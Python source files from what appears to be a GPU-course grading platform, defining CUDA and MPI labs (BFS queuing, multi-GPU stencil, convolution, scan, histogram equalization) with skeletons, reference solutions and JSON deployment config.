    dataset_sizes=(64, 256, 512),
    courses=frozenset({"598", "PUMPS"}),
    questions=("When does privatizing the bin accumulators in shared "
               "memory stop helping?",),
)

# -------------------------------------------------------------------- BFS Queuing

_BFS_HOST = r'''
int main(int argc, char **argv) {
  wbArg_t args;
  int numNodesPlusOne, numEdges, numNodes;
  int *hostRowPtr, *hostColIdx, *hostLevels;
  float *hostOutput;
  int *deviceRowPtr, *deviceColIdx, *deviceLevels;
  int *deviceFrontier, *deviceNextFrontier, *deviceNextSize;
  int hostNextSize[1];

  args = wbArg_read(argc, argv);
  hostRowPtr = (int *)wbImport(wbArg_getInputFile(args, 0),
                               &numNodesPlusOne);
  hostColIdx = (int *)wbImport(wbArg_getInputFile(args, 1), &numEdges);
  numNodes = numNodesPlusOne - 1;

  hostLevels = (int *)malloc(numNodes * sizeof(int));
  hostOutput = (float *)malloc(numNodes * sizeof(float));

  cudaMalloc((void **)&deviceRowPtr, numNodesPlusOne * sizeof(int));
  cudaMalloc((void **)&deviceColIdx, numEdges * sizeof(int));
  cudaMalloc((void **)&deviceLevels, numNodes * sizeof(int));
  cudaMalloc((void **)&deviceFrontier, numNodes * sizeof(int));
  cudaMalloc((void **)&deviceNextFrontier, numNodes * sizeof(int));
  cudaMalloc((void **)&deviceNextSize, sizeof(int));

  cudaMemcpy(deviceRowPtr, hostRowPtr, numNodesPlusOne * sizeof(int),
             cudaMemcpyHostToDevice);
  cudaMemcpy(deviceColIdx, hostColIdx, numEdges * sizeof(int),
             cudaMemcpyHostToDevice);

  initLevelsKernel<<<(numNodes + 127) / 128, 128>>>(deviceLevels,
                                                    deviceFrontier,
                                                    numNodes);
  cudaDeviceSynchronize();

  int frontierSize = 1;
  int depth = 0;
  int *hostNextSizePtr = hostNextSize;
  while (frontierSize > 0) {
    depth = depth + 1;
    cudaMemset(deviceNextSize, 0, sizeof(int));
    int numBlocks = (frontierSize + 127) / 128;
    bfsKernel<<<numBlocks, 128>>>(deviceRowPtr, deviceColIdx, deviceLevels,
                                  deviceFrontier, frontierSize,
                                  deviceNextFrontier, deviceNextSize, depth);
    cudaDeviceSynchronize();
    cudaMemcpy(hostNextSizePtr, deviceNextSize, sizeof(int),
               cudaMemcpyDeviceToHost);
    frontierSize = hostNextSize[0];
    int *swap = deviceFrontier;
    deviceFrontier = deviceNextFrontier;
    deviceNextFrontier = swap;
  }

  cudaMemcpy(hostLevels, deviceLevels, numNodes * sizeof(int),
             cudaMemcpyDeviceToHost);
  for (int i = 0; i < numNodes; i++) {
    hostOutput[i] = (float)hostLevels[i];
  }
  wbSolution(args, hostOutput, numNodes);

  cudaFree(deviceRowPtr);
  cudaFree(deviceColIdx);
  cudaFree(deviceLevels);
  cudaFree(deviceFrontier);
  cudaFree(deviceNextFrontier);
  cudaFree(deviceNextSize);
  free(hostLevels);
  free(hostOutput);
  return 0;
}
'''

_BFS_SKELETON = r'''
#include <wb.h>

// Level-synchronous BFS from node 0 with a work queue: each iteration
// expands the current frontier and atomically appends newly-discovered
// nodes to the next frontier.

__global__ void initLevelsKernel(int *levels, int *frontier, int numNodes) {
  //@@ levels[i] = -1 for all i, except levels[0] = 0; frontier[0] = 0.
}

__global__ void bfsKernel(int *rowPtr, int *colIdx, int *levels,
                          int *frontier, int frontierSize,
                          int *nextFrontier, int *nextSize, int depth) {
  //@@ One thread per frontier node: for each neighbour, claim it with
  //@@ atomicCAS(levels, -1, depth); the winning thread appends it to
  //@@ nextFrontier at a position reserved with atomicAdd(nextSize, 1).
}
''' + _BFS_HOST

_BFS_SOLUTION = r'''
#include <wb.h>

__global__ void initLevelsKernel(int *levels, int *frontier, int numNodes) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < numNodes) {
    if (i == 0)
      levels[i] = 0;
    else
      levels[i] = -1;
  }
  if (i == 0)
    frontier[0] = 0;
}

__global__ void bfsKernel(int *rowPtr, int *colIdx, int *levels,
                          int *frontier, int frontierSize,
                          int *nextFrontier, int *nextSize, int depth) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < frontierSize) {
    int node = frontier[i];
    int start = rowPtr[node];
    int end = rowPtr[node + 1];
    for (int j = start; j < end; j++) {
      int neighbor = colIdx[j];
      int old = atomicCAS(&(levels[neighbor]), -1, depth);
      if (old == -1) {
        int position = atomicAdd(&(nextSize[0]), 1);
        nextFrontier[position] = neighbor;
      }
    }
  }
}
''' + _BFS_HOST

#: Alternative BFS solution with *hierarchical* queuing: newly
#: discovered nodes first land in a block-local shared-memory queue,
#: which is flushed to the global next-frontier once per block — the
#: optimisation the lab's Table II description ("Hierarchical queuing
#: performance effects") is about. One global atomicAdd per block
#: replaces one per discovered node.
BFS_HIERARCHICAL_SOLUTION = r'''
#include <wb.h>

#define LOCAL_QUEUE_SIZE 512

__global__ void initLevelsKernel(int *levels, int *frontier, int numNodes) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < numNodes) {
    if (i == 0)
      levels[i] = 0;
    else
      levels[i] = -1;
  }
  if (i == 0)
    frontier[0] = 0;
}

__global__ void bfsKernel(int *rowPtr, int *colIdx, int *levels,
                          int *frontier, int frontierSize,
                          int *nextFrontier, int *nextSize, int depth) {
  __shared__ int localQueue[LOCAL_QUEUE_SIZE];
  __shared__ int localSize[1];
  __shared__ int globalBase[1];
  int t = threadIdx.x;

  if (t == 0)
    localSize[0] = 0;
  __syncthreads();

  int i = blockIdx.x * blockDim.x + t;
  if (i < frontierSize) {
    int node = frontier[i];
    int start = rowPtr[node];
    int end = rowPtr[node + 1];
    for (int j = start; j < end; j++) {
      int neighbor = colIdx[j];
      int old = atomicCAS(&(levels[neighbor]), -1, depth);
      if (old == -1) {
        int position = atomicAdd(&(localSize[0]), 1);
        if (position < LOCAL_QUEUE_SIZE) {
          localQueue[position] = neighbor;
        } else {
          int overflow = atomicAdd(&(nextSize[0]), 1);
          nextFrontier[overflow] = neighbor;
        }
      }
    }
  }
  __syncthreads();

  if (t == 0) {
    int count = min(localSize[0], LOCAL_QUEUE_SIZE);
    globalBase[0] = atomicAdd(&(nextSize[0]), count);
  }
  __syncthreads();

  int count = min(localSize[0], LOCAL_QUEUE_SIZE);
  for (int k = t; k < count; k += blockDim.x) {
    nextFrontier[globalBase[0] + k] = localQueue[k];
  }
}
''' + _BFS_HOST

BFS_QUEUING = LabDefinition(
    slug="bfs-queuing",
    title="BFS Queuing",
    description="""# BFS with Work Queues

Breadth-first search over a CSR graph, level by level, using a global
work queue for the frontier.

## Objectives

* `atomicCAS` as a claim operation: exactly one thread wins each
  newly-discovered node, so it is enqueued exactly once.
* `atomicAdd` as a queue-append primitive and its contention cost —
  the hierarchical-queue optimisation (block-local queues flushed once
  per block) targets exactly this counter.
* Host-driven iteration: the frontier size comes back to the host each
  level to size the next launch.
""",
    skeleton=_BFS_SKELETON,
    solution=_BFS_SOLUTION,
    generator="bfs",
    dataset_sizes=(16, 48),
    courses=frozenset({"598", "PUMPS"}),
    questions=("Why must discovery use atomicCAS rather than a plain "
               "read-check-write of levels[]?",),
)

# --------------------------------------------------------- Multi-GPU Stencil (MPI)

_MPI_STENCIL_SOURCE = r'''
#include <wb.h>

__global__ void stencil1D(float *in, float *out, int localN, int start,
                          int totalLen) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < localN) {
    int g = start + i;
    if (g == 0 || g == totalLen - 1) {
      out[i] = in[i + 1];
    } else {
      out[i] = (in[i] + in[i + 1] + in[i + 2]) / 3.0f;
    }
  }
}

int main(int argc, char **argv) {
  wbArg_t args;
  int rank, size, len;
  float *input, *local, *hostOut, *result;
  float *deviceIn, *deviceOut;

  MPI_Init(NULL, NULL);
  MPI_Comm_rank(MPI_COMM_WORLD, &rank);
  MPI_Comm_size(MPI_COMM_WORLD, &size);

  args = wbArg_read(argc, argv);
  input = (float *)wbImport(wbArg_getInputFile(args, 0), &len);

  int chunk = (len + size - 1) / size;
  int start = rank * chunk;
  int end = min(start + chunk, len);
  int localN = end - start;

  local = (float *)malloc((localN + 2) * sizeof(float));
  local[0] = 0.0f;
  local[localN + 1] = 0.0f;
  for (int i = 0; i < localN; i++) {
    local[i + 1] = input[start + i];
  }

  if (rank > 0) {
    MPI_Send(&(local[1]), 1, MPI_FLOAT, rank - 1, 0, MPI_COMM_WORLD);
  }
  if (rank < size - 1) {
    MPI_Recv(&(local[localN + 1]), 1, MPI_FLOAT, rank + 1, 0,
             MPI_COMM_WORLD, MPI_STATUS_IGNORE);
    MPI_Send(&(local[localN]), 1, MPI_FLOAT, rank + 1, 1, MPI_COMM_WORLD);
  }
  if (rank > 0) {
    MPI_Recv(&(local[0]), 1, MPI_FLOAT, rank - 1, 1, MPI_COMM_WORLD,
             MPI_STATUS_IGNORE);
  }

  cudaMalloc((void **)&deviceIn, (localN + 2) * sizeof(float));
  cudaMalloc((void **)&deviceOut, localN * sizeof(float));
  cudaMemcpy(deviceIn, local, (localN + 2) * sizeof(float),
             cudaMemcpyHostToDevice);

  int numBlocks = (localN + 127) / 128;
  stencil1D<<<numBlocks, 128>>>(deviceIn, deviceOut, localN, start, len);
  cudaDeviceSynchronize();

  hostOut = (float *)malloc(localN * sizeof(float));
  cudaMemcpy(hostOut, deviceOut, localN * sizeof(float),
             cudaMemcpyDeviceToHost);

  if (rank == 0) {
    result = (float *)malloc(len * sizeof(float));
    for (int i = 0; i < localN; i++) {
      result[i] = hostOut[i];
    }
    for (int r = 1; r < size; r++) {
      int rStart = r * chunk;
      int rEnd = min(rStart + chunk, len);
      MPI_Recv(&(result[rStart]), rEnd - rStart, MPI_FLOAT, r, 2,
               MPI_COMM_WORLD, MPI_STATUS_IGNORE);
    }
    wbSolution(args, result, len);
    free(result);
  } else {
    MPI_Send(hostOut, localN, MPI_FLOAT, 0, 2, MPI_COMM_WORLD);
  }

  MPI_Finalize();

  cudaFree(deviceIn);
  cudaFree(deviceOut);
  free(local);
  free(hostOut);
  return 0;
}
'''

_MPI_STENCIL_SKELETON = _MPI_STENCIL_SOURCE.replace(
    """  if (rank > 0) {
    MPI_Send(&(local[1]), 1, MPI_FLOAT, rank - 1, 0, MPI_COMM_WORLD);
  }
  if (rank < size - 1) {
    MPI_Recv(&(local[localN + 1]), 1, MPI_FLOAT, rank + 1, 0,
             MPI_COMM_WORLD, MPI_STATUS_IGNORE);
    MPI_Send(&(local[localN]), 1, MPI_FLOAT, rank + 1, 1, MPI_COMM_WORLD);
  }
  if (rank > 0) {
    MPI_Recv(&(local[0]), 1, MPI_FLOAT, rank - 1, 1, MPI_COMM_WORLD,
             MPI_STATUS_IGNORE);
  }""",
    "  //@@ Exchange halo cells with your left and right neighbours.\n"
    "  //@@ Mind the send/receive ordering: a symmetric send-first\n"
    "  //@@ protocol deadlocks.")

MPI_STENCIL = LabDefinition(
    slug="mpi-stencil",
    title="Multi-GPU Stencil with MPI",
    description="""# Multi-GPU Stencil with MPI

Distribute a 1-D three-point stencil across several GPUs, one MPI rank
per device.

## Objectives

* Domain decomposition: each rank owns a contiguous chunk plus two halo
  cells.
* Halo exchange with `MPI_Send`/`MPI_Recv` — ordered so neighbouring
  ranks never both block in a send.
* Combining the results at rank 0 for submission.
""",
    skeleton=_MPI_STENCIL_SKELETON,
    solution=_MPI_STENCIL_SOURCE,
    generator="mpi_stencil",
    dataset_sizes=(64, 128),
    language="cuda-mpi",
    mode=EvaluationMode.MPI,
    requirements=frozenset({"mpi", "multi-gpu"}),
    courses=frozenset({"PUMPS"}),
    questions=("Why does the naive 'everyone sends left, then everyone "
               "sends right' protocol deadlock with blocking sends?",),
)
