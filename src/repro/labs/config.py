"""Lab deployment format: the paper's JSON configuration (§IV-E).

"A lab is defined by: a markdown description, a solution skeleton,
datasets, short-answer questions, and **Configuration Data: a JSON file
which describes the problem deadline, how to award points, the name of
the Lab, and other similar information**."

This module round-trips :class:`LabDefinition` through exactly that
deployment shape — a JSON config plus separate description/skeleton/
solution files — and can deploy/load a lab bundle to/from the v2
object store (where "lab datasets are stored on an Amazon S3 bucket
accessible by both the OpenEdx instructor and the worker nodes").
"""

from __future__ import annotations

import io
import json
from typing import Any

import numpy as np

from repro.cache.keys import compose_key, hash_text
from repro.labs.base import EvaluationMode, LabDefinition, Rubric
from repro.storage import Bucket

#: Version of the lab-configuration format. Bumping it invalidates every
#: cached grading result at once (the fingerprint below embeds it), which
#: is the escape hatch when evaluation semantics change without any
#: single lab's config.json changing.
LAB_CONFIG_VERSION = 1


def lab_fingerprint(lab: LabDefinition, base_seed: int = 1234) -> str:
    """Content digest of everything that determines a lab's datasets
    and evaluation: the §IV-E config JSON (generator, sizes, limits,
    rubric, markers, mode, …) plus the dataset base seed and the config
    format version. Any instructor edit — new dataset sizes, changed
    limits, different markers — yields a new fingerprint, so stale
    cached grades can never be served (``repro.cache`` key derivation).
    """
    return compose_key("lab-config", LAB_CONFIG_VERSION, base_seed,
                       hash_text(lab_config_json(lab)))


def lab_config_json(lab: LabDefinition) -> str:
    """The §IV-E JSON configuration file for a lab."""
    config: dict[str, Any] = {
        "name": lab.title,
        "slug": lab.slug,
        "language": lab.language,
        "evaluation": lab.mode.value,
        "deadline": lab.deadline,
        "points": {
            "datasets": lab.rubric.dataset_points,
            "compilation": lab.rubric.compile_points,
            "questions": lab.rubric.question_points,
        },
        "datasets": {
            "generator": lab.generator,
            "sizes": list(lab.dataset_sizes),
        },
        "questions": list(lab.questions),
        "courses": sorted(lab.courses),
        "requirements": sorted(lab.requirements),
        "limits": {
            "compile_seconds": lab.compile_limit_s,
            "run_seconds": lab.run_limit_s,
        },
    }
    if lab.stdout_markers:
        config["stdout_markers"] = list(lab.stdout_markers)
    if lab.kernel_name:
        config["kernel_name"] = lab.kernel_name
    return json.dumps(config, indent=2)


def lab_from_config(config_json: str, description: str, skeleton: str,
                    solution: str) -> LabDefinition:
    """Rebuild a lab from its deployment files."""
    config = json.loads(config_json)
    points = config.get("points", {})
    limits = config.get("limits", {})
    datasets = config["datasets"]
    return LabDefinition(
        slug=config["slug"],
        title=config["name"],
        description=description,
        skeleton=skeleton,
        solution=solution,
        generator=datasets["generator"],
        dataset_sizes=tuple(int(s) for s in datasets["sizes"]),
        language=config.get("language", "cuda"),
        mode=EvaluationMode(config.get("evaluation", "solution")),
        courses=frozenset(config.get("courses", ())),
        requirements=frozenset(config.get("requirements", ())),
        rubric=Rubric(
            dataset_points=int(points.get("datasets", 80)),
            compile_points=int(points.get("compilation", 10)),
            question_points=int(points.get("questions", 10))),
        questions=tuple(config.get("questions", ())),
        stdout_markers=tuple(config.get("stdout_markers", ())),
        kernel_name=config.get("kernel_name", ""),
        compile_limit_s=float(limits.get("compile_seconds", 30.0)),
        run_limit_s=float(limits.get("run_seconds", 60.0)),
        deadline=config.get("deadline"),
    )


# -- object-store deployment (the v2 instructor path) ----------------------

def deploy_lab(bucket: Bucket, lab: LabDefinition,
               base_seed: int = 1234) -> list[str]:
    """Write a complete lab bundle under ``labs/<slug>/`` in the bucket:
    config.json, description.md, skeleton.cu, solution.cu, and every
    generated dataset as .npy objects."""
    prefix = f"labs/{lab.slug}"
    keys: list[str] = []

    def put_text(name: str, text: str) -> None:
        key = f"{prefix}/{name}"
        bucket.put_text(key, text)
        keys.append(key)

    put_text("config.json", lab_config_json(lab))
    put_text("description.md", lab.description)
    put_text("skeleton.cu", lab.skeleton)
    put_text("solution.cu", lab.solution)

    for index, data in enumerate(lab.datasets(base_seed)):
        for name, array in list(data.inputs.items()) + [
                ("expected", data.expected)]:
            buffer = io.BytesIO()
            np.save(buffer, array)
            key = f"{prefix}/datasets/{index}/{name}.npy"
            bucket.put(key, buffer.getvalue())
            keys.append(key)
    return keys


def load_lab(bucket: Bucket, slug: str) -> LabDefinition:
    """Reconstruct a lab from its deployed bundle."""
    prefix = f"labs/{slug}"
    return lab_from_config(
        bucket.get_text(f"{prefix}/config.json"),
        bucket.get_text(f"{prefix}/description.md"),
        bucket.get_text(f"{prefix}/skeleton.cu"),
        bucket.get_text(f"{prefix}/solution.cu"))


def load_dataset_arrays(bucket: Bucket, slug: str,
                        index: int) -> dict[str, np.ndarray]:
    """What a v2 worker fetches to grade a dataset."""
    prefix = f"labs/{slug}/datasets/{index}/"
    out: dict[str, np.ndarray] = {}
    for key in bucket.list(prefix):
        name = key[len(prefix):-len(".npy")]
        out[name] = np.load(io.BytesIO(bucket.get(key)))
    return out
