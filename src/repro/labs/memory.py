"""Memory-hierarchy labs: 2-D Convolution, Reduction & Scan, Image Equalization."""

from repro.labs.base import LabDefinition

# -------------------------------------------------------------- 2D Convolution

_CONV_HOST = r'''
int main(int argc, char **argv) {
  wbArg_t args;
  int imageHeight, imageWidth, maskRows, maskColumns;
  float *hostImage, *hostMask, *hostOutput;
  float *deviceImage, *deviceOutput;

  args = wbArg_read(argc, argv);

  hostImage = (float *)wbImport(wbArg_getInputFile(args, 0), &imageHeight,
                                &imageWidth);
  hostMask = (float *)wbImport(wbArg_getInputFile(args, 1), &maskRows,
                               &maskColumns);
  hostOutput = (float *)malloc(imageHeight * imageWidth * sizeof(float));

  cudaMalloc((void **)&deviceImage, imageHeight * imageWidth * sizeof(float));
  cudaMalloc((void **)&deviceOutput, imageHeight * imageWidth * sizeof(float));
  cudaMemcpy(deviceImage, hostImage, imageHeight * imageWidth * sizeof(float),
             cudaMemcpyHostToDevice);
  cudaMemcpyToSymbol(M, hostMask, MASK_WIDTH * MASK_WIDTH * sizeof(float));

  dim3 dimBlock(O_TILE_WIDTH, O_TILE_WIDTH);
  dim3 dimGrid((imageWidth + O_TILE_WIDTH - 1) / O_TILE_WIDTH,
               (imageHeight + O_TILE_WIDTH - 1) / O_TILE_WIDTH);
  convolution2D<<<dimGrid, dimBlock>>>(deviceImage, deviceOutput, imageHeight,
                                       imageWidth);
  cudaDeviceSynchronize();

  cudaMemcpy(hostOutput, deviceOutput,
             imageHeight * imageWidth * sizeof(float),
             cudaMemcpyDeviceToHost);

  wbSolution(args, hostOutput, imageHeight, imageWidth);

  cudaFree(deviceImage);
  cudaFree(deviceOutput);
  free(hostOutput);
  return 0;
}
'''

_CONV_SKELETON = r'''
#include <wb.h>

#define MASK_WIDTH 3
#define O_TILE_WIDTH 8

__constant__ float M[MASK_WIDTH * MASK_WIDTH];

__global__ void convolution2D(float *input, float *output, int height,
                              int width) {
  __shared__ float tile[O_TILE_WIDTH + MASK_WIDTH - 1]
                       [O_TILE_WIDTH + MASK_WIDTH - 1];
  //@@ Load the input tile (including the halo) into shared memory,
  //@@ synchronize, then compute one output element per thread using
  //@@ the __constant__ mask M.
}
''' + _CONV_HOST

_CONV_SOLUTION = r'''
#include <wb.h>

#define MASK_WIDTH 3
#define O_TILE_WIDTH 8

__constant__ float M[MASK_WIDTH * MASK_WIDTH];

__global__ void convolution2D(float *input, float *output, int height,
                              int width) {
  __shared__ float tile[O_TILE_WIDTH + MASK_WIDTH - 1]
                       [O_TILE_WIDTH + MASK_WIDTH - 1];
  int tx = threadIdx.x;
  int ty = threadIdx.y;
  int col = blockIdx.x * O_TILE_WIDTH + tx;
  int row = blockIdx.y * O_TILE_WIDTH + ty;

  for (int dy = ty; dy < O_TILE_WIDTH + MASK_WIDTH - 1; dy += O_TILE_WIDTH) {
    for (int dx = tx; dx < O_TILE_WIDTH + MASK_WIDTH - 1;
         dx += O_TILE_WIDTH) {
      int r = blockIdx.y * O_TILE_WIDTH + dy - MASK_WIDTH / 2;
      int c = blockIdx.x * O_TILE_WIDTH + dx - MASK_WIDTH / 2;
      if (r >= 0 && r < height && c >= 0 && c < width)
        tile[dy][dx] = input[r * width + c];
      else
        tile[dy][dx] = 0.0f;
    }
  }
  __syncthreads();

  if (row < height && col < width) {
    float sum = 0.0f;
    for (int ky = 0; ky < MASK_WIDTH; ky++) {
      for (int kx = 0; kx < MASK_WIDTH; kx++) {
        sum += M[ky * MASK_WIDTH + kx] * tile[ty + ky][tx + kx];
      }
    }
    output[row * width + col] = sum;
  }
}
''' + _CONV_HOST

CONVOLUTION_2D = LabDefinition(
    slug="convolution-2d",
    title="2D Convolution",
    description="""# 2D Convolution

Convolve an image with a 3x3 mask using constant memory for the mask
and a shared-memory input tile with halo cells.

## Objectives

* Place the (read-only, small, uniformly-accessed) mask in
  `__constant__` memory and fill it with `cudaMemcpyToSymbol`.
* Load an input tile *larger* than the output tile: each block needs a
  halo of MASK_WIDTH/2 cells in every direction, with ghost cells
  (zeros) past the image boundary.
* Synchronize between the load phase and the compute phase.
""",
    skeleton=_CONV_SKELETON,
    solution=_CONV_SOLUTION,
    generator="convolution2d",
    dataset_sizes=(8, 13, 24),
    courses=frozenset({"HPP", "408"}),
    questions=("Why is constant memory a better home for the mask than "
               "shared memory?",),
)

# ------------------------------------------------------------ Reduction and Scan

_SCAN_HOST = r'''
int main(int argc, char **argv) {
  wbArg_t args;
  int numElements;
  float *hostInput, *hostOutput;
  float *deviceInput, *deviceOutput, *deviceAux, *deviceAuxScanned;

  args = wbArg_read(argc, argv);
  hostInput = (float *)wbImport(wbArg_getInputFile(args, 0), &numElements);
  hostOutput = (float *)malloc(numElements * sizeof(float));

  int numBlocks = (numElements + BLOCK_SIZE - 1) / BLOCK_SIZE;

  cudaMalloc((void **)&deviceInput, numElements * sizeof(float));
  cudaMalloc((void **)&deviceOutput, numElements * sizeof(float));
  cudaMalloc((void **)&deviceAux, numBlocks * sizeof(float));
  cudaMalloc((void **)&deviceAuxScanned, numBlocks * sizeof(float));

  cudaMemcpy(deviceInput, hostInput, numElements * sizeof(float),
             cudaMemcpyHostToDevice);

  scanKernel<<<numBlocks, BLOCK_SIZE>>>(deviceInput, deviceOutput, deviceAux,
                                        numElements);
  scanKernel<<<1, BLOCK_SIZE>>>(deviceAux, deviceAuxScanned, deviceAux,
                                numBlocks);
  addAuxKernel<<<numBlocks, BLOCK_SIZE>>>(deviceOutput, deviceAuxScanned,
                                          numElements);
  cudaDeviceSynchronize();

  cudaMemcpy(hostOutput, deviceOutput, numElements * sizeof(float),
             cudaMemcpyDeviceToHost);

  wbSolution(args, hostOutput, numElements);

  cudaFree(deviceInput);
  cudaFree(deviceOutput);
  cudaFree(deviceAux);
  cudaFree(deviceAuxScanned);
  free(hostOutput);
  return 0;
}
'''

_SCAN_SKELETON = r'''
#include <wb.h>

#define BLOCK_SIZE 128

__global__ void scanKernel(float *input, float *output, float *aux,
                           int len) {
  __shared__ float buffer[BLOCK_SIZE];
  //@@ Perform an inclusive scan of this block's elements (Kogge-Stone),
  //@@ write the scanned values to output, and store the block total in
  //@@ aux[blockIdx.x].
}

__global__ void addAuxKernel(float *output, float *auxScanned, int len) {
  //@@ Add the scanned block totals of all preceding blocks to each
  //@@ element of this block.
}
''' + _SCAN_HOST

_SCAN_SOLUTION = r'''
#include <wb.h>

#define BLOCK_SIZE 128

__global__ void scanKernel(float *input, float *output, float *aux,
                           int len) {
  __shared__ float buffer[BLOCK_SIZE];
  int t = threadIdx.x;
  int i = blockIdx.x * blockDim.x + t;

  if (i < len)
    buffer[t] = input[i];
  else
    buffer[t] = 0.0f;
  __syncthreads();

  for (int stride = 1; stride < BLOCK_SIZE; stride *= 2) {
    float value = 0.0f;
    if (t >= stride)
      value = buffer[t - stride];
    __syncthreads();
    buffer[t] += value;
    __syncthreads();
  }

  if (i < len)
    output[i] = buffer[t];
  if (t == BLOCK_SIZE - 1)
    aux[blockIdx.x] = buffer[t];
}

__global__ void addAuxKernel(float *output, float *auxScanned, int len) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (blockIdx.x > 0 && i < len) {
    output[i] += auxScanned[blockIdx.x - 1];
  }
}
''' + _SCAN_HOST

REDUCTION_SCAN = LabDefinition(
    slug="reduction-scan",
    title="Reduction and Scan",
    description="""# Reduction and Scan

Compute the inclusive prefix sum (scan) of an arbitrary-length vector
using the three-phase hierarchical algorithm:

1. each block scans its own elements in shared memory (a tree-like
   Kogge-Stone sweep) and records its total in an auxiliary array;
2. a single block scans the auxiliary array;
3. every block adds the scanned total of all preceding blocks.

## Objectives

* Tree-structured shared-memory algorithms and their `__syncthreads()`
  discipline (note the *two* barriers per sweep step — read then write).
* Work-efficiency: compare the O(n log n) Kogge-Stone sweep with the
  O(n) sequential scan and the Brent-Kung alternative.
* Floating-point: the parallel sum association order differs from the
  sequential one, which is why grading uses a tolerance.
""",
    skeleton=_SCAN_SKELETON,
    solution=_SCAN_SOLUTION,
    generator="scan",
    dataset_sizes=(64, 200, 513),
    courses=frozenset({"HPP", "408"}),
    questions=(
        "Why does the Kogge-Stone sweep need a barrier both before and "
        "after the in-place update?",
        "What is the maximum input length this three-kernel structure "
        "supports, and what would a fourth level buy you?",
    ),
)

# ------------------------------------------------------------ Image Equalization

_HISTEQ_HOST = r'''
int main(int argc, char **argv) {
  wbArg_t args;
  int imageHeight, imageWidth;
  float *hostImage, *hostOutput;
  float *deviceImage, *deviceOutput, *deviceLut;
  int *deviceHistogram;
  int hostHistogram[HISTOGRAM_LENGTH];
  float cdf[HISTOGRAM_LENGTH];
  float lut[HISTOGRAM_LENGTH];

  args = wbArg_read(argc, argv);
  hostImage = (float *)wbImport(wbArg_getInputFile(args, 0), &imageHeight,
                                &imageWidth);
  int imageSize = imageHeight * imageWidth;
  hostOutput = (float *)malloc(imageSize * sizeof(float));

  cudaMalloc((void **)&deviceImage, imageSize * sizeof(float));
  cudaMalloc((void **)&deviceOutput, imageSize * sizeof(float));
  cudaMalloc((void **)&deviceLut, HISTOGRAM_LENGTH * sizeof(float));
  cudaMalloc((void **)&deviceHistogram, HISTOGRAM_LENGTH * sizeof(int));

  cudaMemcpy(deviceImage, hostImage, imageSize * sizeof(float),
             cudaMemcpyHostToDevice);
  cudaMemset(deviceHistogram, 0, HISTOGRAM_LENGTH * sizeof(int));

  int numBlocks = (imageSize + HISTOGRAM_LENGTH - 1) / HISTOGRAM_LENGTH;
  histogramKernel<<<numBlocks, HISTOGRAM_LENGTH>>>(deviceImage,
                                                   deviceHistogram,
                                                   imageSize);
  cudaDeviceSynchronize();

  int *hostHistogramPtr = hostHistogram;
  cudaMemcpy(hostHistogramPtr, deviceHistogram,
             HISTOGRAM_LENGTH * sizeof(int), cudaMemcpyDeviceToHost);

  float cumulative = 0.0f;
  float cdfMin = -1.0f;
  for (int v = 0; v < HISTOGRAM_LENGTH; v++) {
    cumulative += (float)hostHistogram[v] / (float)imageSize;
    cdf[v] = cumulative;
    if (cdfMin < 0.0f && hostHistogram[v] > 0) {
      cdfMin = cdf[v];
    }
  }
  for (int v = 0; v < HISTOGRAM_LENGTH; v++) {
    float corrected = 255.0f * (cdf[v] - cdfMin) / (1.0f - cdfMin);
    lut[v] = min(max(corrected, 0.0f), 255.0f);
  }

  float *hostLutPtr = lut;
  cudaMemcpy(deviceLut, hostLutPtr, HISTOGRAM_LENGTH * sizeof(float),
             cudaMemcpyHostToDevice);

  int applyBlocks = (imageSize + 255) / 256;
  applyLutKernel<<<applyBlocks, 256>>>(deviceImage, deviceLut, deviceOutput,
                                       imageSize);
  cudaDeviceSynchronize();

  cudaMemcpy(hostOutput, deviceOutput, imageSize * sizeof(float),
             cudaMemcpyDeviceToHost);

  wbSolution(args, hostOutput, imageHeight, imageWidth);

  cudaFree(deviceImage);
  cudaFree(deviceOutput);
  cudaFree(deviceLut);
  cudaFree(deviceHistogram);
  free(hostOutput);
  return 0;
}
'''

_HISTEQ_SKELETON = r'''
#include <wb.h>

#define HISTOGRAM_LENGTH 256

__global__ void histogramKernel(float *image, int *histogram, int size) {
  __shared__ int privateHistogram[HISTOGRAM_LENGTH];
  //@@ Build a privatized histogram in shared memory with atomicAdd,
  //@@ then merge it into the global histogram.
}

__global__ void applyLutKernel(float *image, float *lut, float *output,
                               int size) {
  //@@ Map every pixel through the lookup table.
}
''' + _HISTEQ_HOST

_HISTEQ_SOLUTION = r'''
#include <wb.h>

#define HISTOGRAM_LENGTH 256

__global__ void histogramKernel(float *image, int *histogram, int size) {
  __shared__ int privateHistogram[HISTOGRAM_LENGTH];
  int t = threadIdx.x;
  if (t < HISTOGRAM_LENGTH)
    privateHistogram[t] = 0;
  __syncthreads();

  int i = blockIdx.x * blockDim.x + t;
  int stride = blockDim.x * gridDim.x;
  while (i < size) {
    int value = (int)image[i];
    atomicAdd(&(privateHistogram[value]), 1);
    i += stride;
  }
  __syncthreads();

  if (t < HISTOGRAM_LENGTH)
    atomicAdd(&(histogram[t]), privateHistogram[t]);
}

__global__ void applyLutKernel(float *image, float *lut, float *output,
                               int size) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < size) {
    int value = (int)image[i];
    output[i] = lut[value];
  }
}
''' + _HISTEQ_HOST

IMAGE_EQUALIZATION = LabDefinition(
    slug="image-equalization",
    title="Image Equalization",
    description="""# Image Equalization

Equalize the histogram of a grayscale image (pixel values 0-255):

1. build the intensity histogram on the GPU with atomic operations,
   using a *privatized* per-block histogram in shared memory to reduce
   contention on global memory;
2. compute the CDF and the correction lookup table on the host;
3. map every pixel through the table on the GPU.

## Objectives

* `atomicAdd` on shared and global memory, and why privatization
  matters (compare the atomic-contention counter in the profile output
  with and without the private histogram).
* Mixed host/device algorithms: the 256-entry CDF is cheaper on the
  host than a kernel launch.
""",
    skeleton=_HISTEQ_SKELETON,
    solution=_HISTEQ_SOLUTION,
    generator="image_equalization",
    dataset_sizes=(16, 24),
    courses=frozenset({"HPP", "408"}),
    questions=("Why does a privatized histogram reduce the cost of the "
               "atomic operations?",),
)
