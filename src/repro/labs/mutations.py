"""A corpus of classic student bugs, as mutations of reference solutions.

Used by the automated-feedback benchmark (how much of the classic bug
space gets actionable advice?) and by the full-stack replay simulation
(students submit buggy code, read the mismatch report, and fix it —
the paper's "develop their code incrementally" loop).
"""

from __future__ import annotations

